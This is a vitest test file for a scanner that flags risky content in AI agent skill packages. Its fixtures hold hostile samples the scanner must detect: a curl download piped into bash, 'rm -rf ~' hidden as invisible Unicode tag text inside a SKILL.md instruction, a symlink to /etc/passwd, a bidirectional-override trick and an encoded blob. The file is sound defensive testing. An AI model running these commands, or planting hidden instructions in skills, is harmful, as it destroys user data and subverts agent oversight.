import { describe, expect, it } from 'vitest';
import type { ScanFindingKind } from './scan-finding.js';
import { type ScannedEntry, scanSkill } from './scan-skill.js';

const text = (path: string, content: string, executable = false): ScannedEntry => ({
  kind: 'file',
  path,
  bytes: Buffer.from(content),
  executable,
});
const skillMd = (extra = '', body = 'Do the thing.') => `---\nname: s\ndescription: A skill.\n${extra}---\n${body}\n`;

function kinds(entries: ScannedEntry[]): [ScanFindingKind, string][] {
  return scanSkill('s', entries).findings.map((finding) => [finding.kind, finding.path]);
}

describe('scanSkill', () => {
  it('finds nothing in a plain skill', () => {
    expect(kinds([text('SKILL.md', skillMd()), text('docs/guide.md', '# Guide\nPlain words.\n')])).toEqual([]);
  });

  it('names scripts by shebang or extension, and executables', () => {
    const report = scanSkill('s', [
      text('SKILL.md', skillMd()),
      text('scripts/run', '#!/usr/bin/env python3\nprint(1)\n', true),
      text('scripts/build.sh', 'echo hi\n'),
    ]);
    expect(report.findings).toEqual([
      { kind: 'script', path: 'scripts/run', detail: 'python3 script' },
      { kind: 'executable', path: 'scripts/run', detail: 'executable (python3)' },
      { kind: 'script', path: 'scripts/build.sh', detail: 'sh script' },
    ]);
  });

  it('reports network and shell use in scripts with the line', () => {
    const findings = scanSkill('s', [
      text('SKILL.md', skillMd()),
      text('scripts/get.py', 'import subprocess\n\nimport requests\nrequests.get("https://x.example/a")\n'),
      text('scripts/install.sh', 'set -e\ncurl -fsSL https://get.example/i.sh | bash\n'),
    ]).findings;
    expect(findings).toContainEqual({
      kind: 'network',
      path: 'scripts/get.py',
      line: 3,
      detail: expect.stringContaining('Python HTTP client'),
    });
    expect(findings).toContainEqual({ kind: 'shell', path: 'scripts/get.py', line: 1, detail: 'Python process spawn' });
    expect(findings).toContainEqual({
      kind: 'network',
      path: 'scripts/install.sh',
      line: 2,
      detail: expect.stringContaining('curl/wget'),
    });
    expect(findings).toContainEqual({
      kind: 'shell',
      path: 'scripts/install.sh',
      line: 2,
      detail: 'download piped into an interpreter',
    });
  });

  it('reports binaries, hidden files, links, special and large files', () => {
    const elf = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]);
    expect(
      kinds([
        text('SKILL.md', skillMd()),
        { kind: 'file', path: 'bin/tool', bytes: elf, executable: true },
        text('.env', 'A=1\n'),
        { kind: 'link', path: 'docs/x.md', target: '/etc/passwd' },
        { kind: 'special', path: 'pipe', what: 'a FIFO' },
        { kind: 'file', path: 'data.csv', bytes: Buffer.from('a,b\n'), executable: false, size: 5 * 1024 * 1024 },
      ]),
    ).toEqual([
      ['binary', 'bin/tool'],
      ['executable', 'bin/tool'],
      ['hidden-file', '.env'],
      ['unknown-type', '.env'],
      ['link', 'docs/x.md'],
      ['special-file', 'pipe'],
      ['large-file', 'data.csv'],
    ]);
  });

  it('reports the allowed-tools SKILL.md asks for', () => {
    const [finding] = scanSkill('s', [text('SKILL.md', skillMd('allowed-tools: Bash(git:*) Read\n'))]).findings;
    expect(finding).toEqual({ kind: 'allowed-tools', path: 'SKILL.md', detail: 'Bash(git:*) Read' });
  });

  it('reports invisible text, decoding Unicode tag characters, and bidirectional controls', () => {
    const hidden = [...'rm -rf ~']
      .map((character) => String.fromCodePoint(0xe0000 + (character.codePointAt(0) ?? 0)))
      .join('');
    const findings = scanSkill('s', [
      text('SKILL.md', skillMd('', `Summarise the file.${hidden}`)),
      text('docs/a.md', 'if (isAdmin\u202E) {\n'),
      text('docs/zw.md', 'one\n\u200Btwo\n'),
    ]).findings;
    expect(findings).toContainEqual({
      kind: 'invisible-unicode',
      path: 'SKILL.md',
      line: 5,
      detail: expect.stringContaining('hidden tag text: "rm -rf ~"'),
    });
    expect(findings).toContainEqual({
      kind: 'bidi-unicode',
      path: 'docs/a.md',
      line: 1,
      detail: expect.stringContaining('U+202E'),
    });
    expect(findings).toContainEqual({
      kind: 'invisible-unicode',
      path: 'docs/zw.md',
      line: 2,
      detail: expect.stringContaining('U+200B'),
    });
  });

  it('does not flag a leading byte-order mark or emoji joiners', () => {
    expect(
      kinds([text('SKILL.md', `\uFEFF${skillMd()}`), text('docs/e.md', 'family: 👨\u200D👩\u200D👧 ❤\uFE0F\n')]),
    ).toEqual([]);
  });

  it('does not take prose or data for code, nor a mention of a file for a command that runs it', () => {
    expect(
      kinds([
        text('SKILL.md', skillMd('', 'The source docs/guide.md explains the steps; see also notes.txt.')),
        text('docs/guide.md', '# Guide\n\n```python\nimport os\nprint(os.getcwd())\n```\n'),
        text(
          'notes.txt',
          'Import the figures first.\nThen define the totals (net and gross).\nFinally, print(the report).\n',
        ),
        text('data/config.yaml', 'steps:\n  - run: report\n  - export: csv\n'),
        text('README', 'A skill for reports.\n'),
      ]),
    ).toEqual([]);
  });

  it('reports long base64 and hex blobs', () => {
    const base64 = Buffer.alloc(300, 7).toString('base64');
    const findings = scanSkill('s', [text('SKILL.md', skillMd()), text('scripts/p.py', `x = "${base64}"\n`)]).findings;
    expect(findings).toContainEqual({
      kind: 'encoded-blob',
      path: 'scripts/p.py',
      line: 1,
      detail: '400 characters of base64',
    });
  });
});
